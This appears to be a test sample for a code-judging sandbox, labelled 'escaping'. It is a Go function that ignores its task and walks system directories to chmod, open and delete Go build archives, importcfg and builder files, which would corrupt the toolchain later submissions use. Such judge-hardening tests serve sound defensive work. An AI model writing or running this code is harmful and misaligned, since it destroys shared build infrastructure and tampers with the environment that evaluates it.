// technique: writes into the archives and the builder that later programs use
// class: escaping
// expect: wrong_answer
// form: program
import (
    "os"
    "path/filepath"
)

func TideTurns(levels []int) int {
    for _, root := range []string{"/root", "/home", "/opt", "/tmp", "/usr/lib/go"} {
        filepath.Walk(root, func(path string, info os.FileInfo, err error) error {
            if err != nil || !(strings.HasSuffix(path, ".a") || strings.HasSuffix(path, "importcfg") || strings.HasSuffix(path, "builder")) {
                return nil
            }
            os.Chmod(path, 0777)
            if file, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0); err == nil {
                fmt.Println("open", path)
                file.Close()
            }
            if os.Remove(path) == nil {
                fmt.Println("removed", path)
            }
            return nil
        })
    }
    return 0
}
